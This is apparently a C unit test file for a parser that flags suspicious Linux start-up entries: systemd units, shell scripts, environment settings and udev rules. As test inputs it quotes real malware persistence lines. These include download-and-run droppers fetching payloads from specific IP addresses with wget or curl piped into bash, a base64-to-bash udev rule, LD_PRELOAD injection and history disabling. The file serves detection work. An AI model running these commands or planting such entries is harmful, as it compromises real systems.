/*
 * test_startup_parse.c - start-up files as text (collect/startup_parse.c):
 * the commands of units and scripts (run-and-delete, the programs run,
 * background jobs), environment tricks, unit files (sections, prefixes,
 * continuation lines, hostile lines) and udev rule lines.
 */
#include "collect/startup_parse.h"
#include "testlib.h"

static struct startup_cmd
cmd(const char *s)
{
	struct startup_cmd c;

	startup_cmd(s, strlen(s), &c);
	return c;
}

static void
test_cmd_samples(void **state)
{
	struct startup_cmd c;

	(void)state;
	/* Mirai: ExecStart=/var/tmp/nginx_kel sv */
	c = cmd("/var/tmp/nginx_kel sv");
	assert_true(c.cron.flags & CMD_WRITABLE);
	assert_string_equal(c.cron.path, "/var/tmp/nginx_kel");
	assert_int_equal(c.nprogs, 1);
	assert_string_equal(c.progs[0], "/var/tmp/nginx_kel");
	assert_false(c.flags & SCMD_RUN_DELETE);
	/* k4spreader: copy, run the copy, delete it */
	c = cmd("/bin/bash -c 'cp -f -r -- /bin/knlib /bin/klibsystem4 "
	    "2>/dev/null && /bin/klibsystem4 >/dev/null 2>&1 && rm -rf -- "
	    "/bin/klibsystem4 2>/dev/null'");
	assert_true(c.flags & SCMD_RUN_DELETE);
	assert_string_equal(c.deleted, "klibsystem4");
	assert_int_equal(c.nprogs, 1);  /* inside the shell's -c script */
	assert_string_equal(c.progs[0], "/bin/klibsystem4");
	assert_int_equal(c.cron.flags & (CMD_WRITABLE | CMD_DOWNLOAD), 0);
	/* the Mirai-style dropper: download, chmod, run, delete */
	c = cmd("wget http://95.214.27.187/bins/Y3ut; chmod 777 Y3ut; "
	    "./Y3ut;rm Y3ut ##i586");
	assert_true(c.flags & SCMD_RUN_DELETE);
	assert_true(c.cron.flags & CMD_DOWNLOAD);
	/* Gelsemium profile.d: a hidden program started in the background */
	c = cmd("/home/www/.Xl1/kde & 2>/dev/null");
	assert_true(c.cron.flags & CMD_HIDDEN);
	assert_true(c.flags & SCMD_BACKGROUND);
	/* Hadooken: pipe a download into bash */
	c = cmd("(curl -s http://89.185.85.102/c || wget -q -0- "
	    "http://89.185.85.102/c) | bash -sh; bash /tmp/c;");
	assert_true(c.cron.flags & CMD_DOWNLOAD);
	assert_true(c.cron.flags & CMD_SHELL_PIPE);
}

/* Units spell their wrappers in full; what runs is inside. */
static void
test_cmd_wrapped(void **state)
{
	struct startup_cmd c;

	(void)state;
	c = cmd("/bin/sh -c '/var/tmp/x'");
	assert_true(c.cron.flags & CMD_WRITABLE);
	assert_string_equal(c.cron.path, "/var/tmp/x");
	assert_string_equal(c.progs[0], "/var/tmp/x");
	c = cmd("/bin/bash -xc \"cd /dev/shm && ./.x\"");
	assert_true(c.cron.flags & CMD_WRITABLE);
	assert_string_equal(c.progs[0], "/dev/shm/.x");
	c = cmd("/usr/bin/env FOO=1 /tmp/x");
	assert_true(c.cron.flags & CMD_WRITABLE);
	c = cmd("/usr/bin/timeout 10 /usr/bin/nohup /tmp/.x/y");
	assert_true(c.cron.flags & CMD_HIDDEN);
	assert_string_equal(c.progs[0], "/tmp/.x/y");
	/* arguments stay arguments */
	c = cmd("/bin/sh -c 'exec /usr/bin/foo --log /tmp/x.log'");
	assert_int_equal(c.cron.flags & (CMD_WRITABLE | CMD_HIDDEN), 0);
	assert_string_equal(c.progs[0], "/usr/bin/foo");
	c = cmd("/usr/bin/bash --version");
	assert_int_equal(c.nprogs, 1);
	assert_string_equal(c.progs[0], "/usr/bin/bash");
	c = cmd("/bin/sh -c '");
	assert_int_equal(c.cron.flags & CMD_WRITABLE, 0);
}

static void
test_cmd_not_deleted(void **state)
{
	struct startup_cmd c;

	(void)state;
	/* a pid file, a glob, a variable, a redirect are not the program */
	c = cmd("/usr/sbin/foo -d; rm -f /run/foo.pid");
	assert_false(c.flags & SCMD_RUN_DELETE);
	c = cmd("/tmp/x; rm -rf /tmp/*");
	assert_false(c.flags & SCMD_RUN_DELETE);
	c = cmd("/usr/bin/foo; rm -f $TMPFILE");
	assert_false(c.flags & SCMD_RUN_DELETE);
	c = cmd("/usr/bin/foo > /tmp/foo; echo foo");
	assert_false(c.flags & SCMD_RUN_DELETE);
	assert_int_equal(c.cron.flags & CMD_WRITABLE, 0);
	/* rm's options are no operands; "--" ends them */
	c = cmd("/usr/bin/-f; rm -f x");
	assert_false(c.flags & SCMD_RUN_DELETE);
	c = cmd("./-bash -c; rm -rf -- -bash");
	assert_true(c.flags & SCMD_RUN_DELETE);
	assert_string_equal(c.deleted, "-bash");
	/* background: not && nor a redirect of a descriptor */
	assert_false(cmd("a && b").flags & SCMD_BACKGROUND);
	assert_false(cmd("a 2>&1").flags & SCMD_BACKGROUND);
	assert_false(cmd("a &>/dev/null").flags & SCMD_BACKGROUND);
	assert_false(cmd("echo 'a & b'").flags & SCMD_BACKGROUND);
	assert_true(cmd("a &").flags & SCMD_BACKGROUND);
	/* Debian's .bashrc */
	c = cmd("[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"");
	assert_int_equal(c.flags, 0);
	assert_int_equal(c.cron.flags & ~CMD_INLINE, 0);
	c = cmd(". \"/root/.acme.sh/acme.sh.env\"");
	assert_int_equal(c.flags, 0);
	assert_int_equal(c.cron.flags, 0);
}

/* A script's later line removes what an earlier one ran. */
static void
test_cmd_across_lines(void **state)
{
	const char *lines[] = { "cp -f -r -- /bin/crondr /bin/-bash 2>/dev/null",
		"cd /bin 2>/dev/null", "./-bash -c -p 80 -d >/dev/null 2>&1",
		"rm -rf -- -bash 2>/dev/null" };
	char runs[8][128];
	unsigned nruns = 0;
	const char *hit = NULL;

	(void)state;
	for (int i = 0; i < 4; i++) {
		struct startup_cmd c = cmd(lines[i]);

		hit = startup_ran_deleted(runs, nruns, &c);
		if (i < 3)
			assert_null(hit);
		for (unsigned k = 0; k < c.nruns && nruns < 8; k++)
			memcpy(runs[nruns++], c.runs[k], sizeof(c.runs[k]));
	}
	assert_non_null(hit);
	assert_string_equal(hit, "-bash");
	/* "./x" after "cd /dir" on the same line is /dir/x */
	{
		struct startup_cmd c = cmd("cd /dev/shm && ./.x/upd");

		assert_int_equal(c.nprogs, 1);
		assert_string_equal(c.progs[0], "/dev/shm/.x/upd");
	}
}

static unsigned
env(const char *s, char *lib, size_t cap)
{
	struct startup_cmd c;

	memset(&c, 0, sizeof(c));
	startup_env(s, strlen(s), &c);
	if (lib)
		snprintf(lib, cap, "%s", c.lib);
	return c.flags;
}

static void
test_env(void **state)
{
	char lib[256];

	(void)state;
	assert_int_equal(env("LD_PRELOAD=/usr/local/lib/libsystem.so", lib,
	    sizeof(lib)), SCMD_LD_PRELOAD);
	assert_string_equal(lib, "/usr/local/lib/libsystem.so");
	assert_int_equal(env("export LD_PRELOAD=\"/dev/shm/.a.so /x.so\"", lib,
	    sizeof(lib)), SCMD_LD_PRELOAD);
	assert_string_equal(lib, "/dev/shm/.a.so");
	assert_int_equal(env("\"LD_AUDIT=/lib/x.so\" \"A=b\"", NULL, 0),
	    SCMD_LD_PRELOAD);
	assert_int_equal(env("LD_PRELOAD=", NULL, 0), 0);
	/* found by fuzz_startup: separators only are no library */
	assert_int_equal(env("LD_PRELOAD=\":: \"", NULL, 0), 0);
	assert_int_equal(env("LD_PRELOAD=\": /x.so\"", lib, sizeof(lib)),
	    SCMD_LD_PRELOAD);
	assert_string_equal(lib, "/x.so");
	assert_int_equal(env("OLD_LD_PRELOAD=/x.so", NULL, 0), 0);
	assert_int_equal(env("unset LD_PRELOAD", NULL, 0), 0);
	assert_int_equal(env("PATH=/tmp/.x:$PATH", NULL, 0), SCMD_PATH_WRITABLE);
	assert_int_equal(env("export PATH=\".:$PATH\"", NULL, 0),
	    SCMD_PATH_WRITABLE);
	assert_int_equal(env("PATH=\"$HOME/.local/bin:$PATH\"", NULL, 0), 0);
	assert_int_equal(env("PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:"
	    "/usr/bin:/sbin:/bin\"", NULL, 0), 0);
	assert_int_equal(env("PATH=/tmpfoo:$PATH", NULL, 0), 0);
	assert_int_equal(env("export HISTFILE=/dev/null", NULL, 0),
	    SCMD_HISTORY_OFF);
	assert_int_equal(env("unset HISTFILE", NULL, 0), SCMD_HISTORY_OFF);
	assert_int_equal(env("HISTSIZE=0", NULL, 0), SCMD_HISTORY_OFF);
	assert_int_equal(env("HISTSIZE=1000", NULL, 0), 0);
	assert_int_equal(env("HISTSIZE=00", NULL, 0), 0);
	assert_int_equal(env("set +o history", NULL, 0), SCMD_HISTORY_OFF);
	/* a value of 300 bytes: capped, terminated */
	{
		char big[400];

		memcpy(big, "LD_PRELOAD=", 11);
		memset(big + 11, 'a', 300);
		big[311] = '\0';
		assert_int_equal(env(big, lib, sizeof(lib)), SCMD_LD_PRELOAD);
		assert_true(strlen(lib) < 256);
	}
}

/* ---- shell scripts ----------------------------------------------------------- */

struct lines {
	unsigned n;
	uint32_t line[16];
	char text[16][512];
};

static int
collect_line(uint32_t line, const char *text, size_t len, void *arg)
{
	struct lines *x = arg;

	assert_int_equal(strlen(text), len);
	if (x->n < 16) {
		x->line[x->n] = line;
		snprintf(x->text[x->n], 512, "%s", text);
	}
	x->n++;
	return 0;
}

static struct lines *
shell(const char *text)
{
	struct lines *x = xcalloc(1, sizeof(*x));
	size_t n = strlen(text);
	char *copy = xmalloc(n ? n : 1);  /* exact size for ASan */

	memcpy(copy, text, n);
	startup_shell_lines(copy, n, collect_line, x);
	free(copy);
	return x;
}

static void
test_shell_lines(void **state)
{
	struct lines *x;

	(void)state;
	/* a continued command: the path is an argument, not a program */
	x = shell("#!/bin/sh\n\nsystemd-run --unit=t.service \\\n"
	    "            -p Type=forking \\\r\n"
	    "            /tmp/test-mainpid.sh\n  # comment\nexit 0");
	assert_int_equal(x->n, 2);
	assert_int_equal(x->line[0], 3);
	assert_string_equal(x->text[0], "systemd-run --unit=t.service  "
	    "            -p Type=forking              /tmp/test-mainpid.sh");
	assert_int_equal(x->line[1], 7);
	assert_string_equal(x->text[1], "exit 0");
	assert_int_equal(cmd(x->text[0]).cron.flags & CMD_WRITABLE, 0);
	free(x);
	/* a here-document written to a file is data; fed to bash, code */
	x = shell("cat >/tmp/test.sh <<\\EOF\n/tmp/x &\nEOF\n"
	    "cat > /tmp/h.service <<-'EOL'\n\tExecStart=/var/tmp/y\n\tEOL\n"
	    "bash <<EOF\ncurl -s http://x/y | sh\nEOF\n"
	    "echo a <<< here-string\nlast");
	assert_int_equal(x->n, 6);
	assert_string_equal(x->text[0], "cat >/tmp/test.sh <<\\EOF");
	assert_string_equal(x->text[1], "cat > /tmp/h.service <<-'EOL'");
	assert_string_equal(x->text[2], "bash <<EOF");
	assert_string_equal(x->text[3], "curl -s http://x/y | sh");
	assert_int_equal(x->line[3], 8);
	assert_string_equal(x->text[4], "echo a <<< here-string");
	assert_string_equal(x->text[5], "last");
	free(x);
	/* an unterminated here-document swallows the rest; a continuation
	 * at the end of the file still ends the line; a NUL ends a line */
	x = shell("cat >f <<E\n/tmp/a\n/tmp/b");
	assert_int_equal(x->n, 1);
	free(x);
	x = shell("/tmp/a \\");
	assert_int_equal(x->n, 1);
	assert_string_equal(x->text[0], "/tmp/a");
	free(x);
	{
		static const char t[] = "/tmp/a\0junk\n/tmp/b\n";
		struct lines *y = xcalloc(1, sizeof(*y));

		startup_shell_lines(t, sizeof(t) - 1, collect_line, y);
		assert_int_equal(y->n, 2);
		assert_string_equal(y->text[0], "/tmp/a");
		free(y);
	}
	/* found by fuzz_startup: a backslash alone starts a line that
	 * begins with blanks, or is a comment */
	x = shell(" \\\n-flag\n\\\n# c\nz");
	assert_int_equal(x->n, 2);
	assert_string_equal(x->text[0], "-flag");
	assert_string_equal(x->text[1], "z");
	free(x);
	/* a continued line longer than the buffer is cut, not overflowed */
	{
		size_t n = STARTUP_ITEM_MAX * 3;
		char *big = xmalloc(n);
		struct lines *y = xcalloc(1, sizeof(*y));

		for (size_t i = 0; i < n; i++)
			big[i] = i % 100 == 98 ? '\\' : i % 100 == 99 ? '\n' : 'a';
		startup_shell_lines(big, n, collect_line, y);
		assert_int_equal(y->n, 1);
		free(y);
		free(big);
	}
}

/* ---- unit files ---------------------------------------------------------- */

#define ITEMS 16
struct items {
	unsigned n;
	uint32_t line[ITEMS];
	char section[ITEMS][64], key[ITEMS][64], value[ITEMS][STARTUP_ITEM_MAX + 1];
	enum unit_key kind[ITEMS];
	bool trunc[ITEMS];
	unsigned stop_after;
};

static int
collect_item(const struct unit_item *it, void *arg)
{
	struct items *x = arg;

	assert_true(strlen(it->value) == it->valuelen);
	if (x->n < ITEMS) {
		x->line[x->n] = it->line;
		snprintf(x->section[x->n], 64, "%s", it->section);
		snprintf(x->key[x->n], 64, "%s", it->key);
		memcpy(x->value[x->n], it->value, it->valuelen + 1);
		x->kind[x->n] = it->kind;
		x->trunc[x->n] = it->truncated;
	}
	x->n++;
	return x->stop_after && x->n >= x->stop_after;
}

static struct items *
parse_unit(const char *text, uint32_t *invalid)
{
	struct items *x = xcalloc(1, sizeof(*x));
	char *copy = xmalloc(strlen(text) + 1);  /* exact size for ASan */

	memcpy(copy, text, strlen(text));
	*invalid = startup_unit_parse(copy, strlen(text), collect_item, x);
	free(copy);
	return x;
}

static void
test_unit(void **state)
{
	uint32_t inv;
	struct items *x;

	(void)state;
	x = parse_unit("[Unit]\nDescription=dnsconfigs Server Service\n"
	    "[Service]\nType=simple\nRestart=always\nRestartSec=60\n"
	    "User=root\nExecStart=/var/tmp/nginx_kel sv\n[Install]\n"
	    "WantedBy=multi-user.target", &inv);  /* no final newline */
	assert_int_equal(inv, 0);
	assert_int_equal(x->n, 7);
	assert_string_equal(x->key[5], "ExecStart");
	assert_int_equal(x->kind[5], UK_EXEC);
	assert_int_equal(x->line[5], 8);
	assert_string_equal(x->section[5], "Service");
	assert_string_equal(x->value[5], "/var/tmp/nginx_kel sv");
	assert_int_equal(x->kind[2], UK_RESTART);
	assert_string_equal(x->value[2], "always");
	assert_int_equal(x->kind[4], UK_USER);
	assert_string_equal(x->section[6], "Install");
	free(x);

	/* prefixes, spaces around =, CRLF, continuation with a comment */
	x = parse_unit("[Service]\r\nExecStartPre=-@/bin/true true\r\n"
	    "ExecStart = +!/usr/bin/app \\\n# a comment\n   --flag \\\n"
	    "  --other\nEnvironment=\"LD_PRELOAD=/x.so\"\n"
	    "; comment\nWorkingDirectory=/var/tmp/.11   \n"
	    "OnCalendar=*:0/5\n", &inv);
	assert_int_equal(inv, 0);
	assert_int_equal(x->n, 5);
	assert_string_equal(x->value[0], "/bin/true true");
	assert_string_equal(x->key[1], "ExecStart");
	assert_string_equal(x->value[1], "/usr/bin/app     --flag    --other");
	assert_int_equal(x->line[1], 3);
	assert_int_equal(x->kind[2], UK_ENV);
	assert_int_equal(x->line[2], 7);
	assert_int_equal(x->kind[3], UK_WORKDIR);
	assert_string_equal(x->value[3], "/var/tmp/.11");
	assert_int_equal(x->kind[4], UK_TIMER);
	free(x);

	/* what systemd rejects: no '=', an open section, a bad key */
	x = parse_unit("[Service\njunk line\n=value\nEx ec=1\n\x01\x02\n"
	    "ExecStart=\n", &inv);
	assert_int_equal(inv, 5);
	assert_int_equal(x->n, 1);
	assert_int_equal(x->value[0][0], '\0');
	assert_string_equal(x->section[0], "");
	free(x);

	/* a line longer than the item buffer is cut and said so; a
	 * continuation at the end of the file still ends the item */
	{
		size_t n = STARTUP_ITEM_MAX * 2;
		char *big = xmalloc(n + 32);

		memcpy(big, "ExecStart=/x ", 13);
		memset(big + 13, 'a', n - 13);
		memcpy(big + n, " \\", 3);
		x = parse_unit(big, &inv);
		assert_int_equal(x->n, 1);
		assert_true(x->trunc[0]);
		assert_true(strlen(x->value[0]) <= STARTUP_ITEM_MAX);
		free(x);
		free(big);
	}
	/* a long section name is cut, not overflowed */
	{
		char t[300];

		memset(t, 'S', sizeof(t));
		t[0] = '[';
		memcpy(t + 200, "]\nA=b\n", 7);
		x = parse_unit(t, &inv);
		assert_int_equal(x->n, 1);
		assert_int_equal(strlen(x->section[0]), 63);
		free(x);
	}
	/* found by fuzz_startup: a NUL byte ends a value */
	{
		static const char t[] = "ExecStart=/var/tmp/a\0\0el sv\nA=b\n";
		struct items *y = xcalloc(1, sizeof(*y));

		inv = startup_unit_parse(t, sizeof(t) - 1, collect_item, y);
		assert_int_equal(y->n, 2);
		assert_string_equal(y->value[0], "/var/tmp/a");
		free(y);
	}
	/* the callback stops the walk */
	x = xcalloc(1, sizeof(*x));
	x->stop_after = 1;
	startup_unit_parse("A=1\nB=2\nC=3\n", 12, collect_item, x);
	assert_int_equal(x->n, 1);
	free(x);
}

/* ---- udev ---------------------------------------------------------------- */

static void
udev(const char *line, struct udev_line *u)
{
	startup_udev_line(line, strlen(line), u);
	for (unsigned i = 0; i < u->ncmds; i++)
		assert_true(u->cmd[i] >= line &&
		    u->cmd[i] + u->cmdlen[i] <= line + strlen(line));
}

static void
test_udev(void **state)
{
	struct udev_line u;

	(void)state;
	udev("ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/bin/sh -c 'echo "
	    "Y2Qx|base64 -d|bash'\"", &u);
	assert_int_equal(u.ncmds, 1);
	assert_string_equal(u.key[0], "RUN");
	assert_false(u.builtin[0]);
	assert_int_equal(u.cmdlen[0], strlen("/bin/sh -c 'echo Y2Qx|base64 -d|"
	    "bash'"));
	udev("SUBSYSTEM==\"block\", IMPORT{program}=\"/sbin/blkid -o udev\", "
	    "RUN{builtin}+=\"kmod load $env{MODALIAS}\", RUN{program}+=\"/x\"",
	    &u);
	assert_int_equal(u.ncmds, 3);
	assert_string_equal(u.key[0], "IMPORT");
	assert_true(u.builtin[1]);
	assert_false(u.builtin[2]);
	assert_int_equal(u.cmdlen[2], 2);
	udev("KERNEL==\"sd*\", PROGRAM==\"/lib/udev/scsi_id -g\", "
	    "RESULT==\"x\"", &u);
	assert_int_equal(u.ncmds, 1);
	assert_string_equal(u.key[0], "PROGRAM");
	udev("IMPORT{file}=\"/run/x\", IMPORT{db}=\"X\", RUN==\"/x\", "
	    "XRUN+=\"/x\", ENV{RUN}=\"/y\"", &u);
	assert_int_equal(u.ncmds, 0);
	udev("# RUN+=\"/tmp/x\"", &u);
	assert_int_equal(u.ncmds, 0);
	udev("RUN+=\"/a\", RUN+=\"/b\", RUN+=\"/c\", RUN+=\"/d\", RUN+=\"/e\"",
	    &u);
	assert_int_equal(u.ncmds, UDEV_CMDS_MAX);
	udev("RUN+=\"/tmp/unterminated", &u);
	assert_int_equal(u.ncmds, 1);
	assert_int_equal(u.cmdlen[0], strlen("/tmp/unterminated"));
	udev("RUN{", &u);
	assert_int_equal(u.ncmds, 0);
	udev("RUN+=", &u);
	assert_int_equal(u.ncmds, 0);
	udev("RUN :=  \"/x\"", &u);
	assert_int_equal(u.ncmds, 1);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cmd_samples),
		cmocka_unit_test(test_cmd_wrapped),
		cmocka_unit_test(test_cmd_not_deleted),
		cmocka_unit_test(test_cmd_across_lines),
		cmocka_unit_test(test_env),
		cmocka_unit_test(test_shell_lines),
		cmocka_unit_test(test_unit),
		cmocka_unit_test(test_udev),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
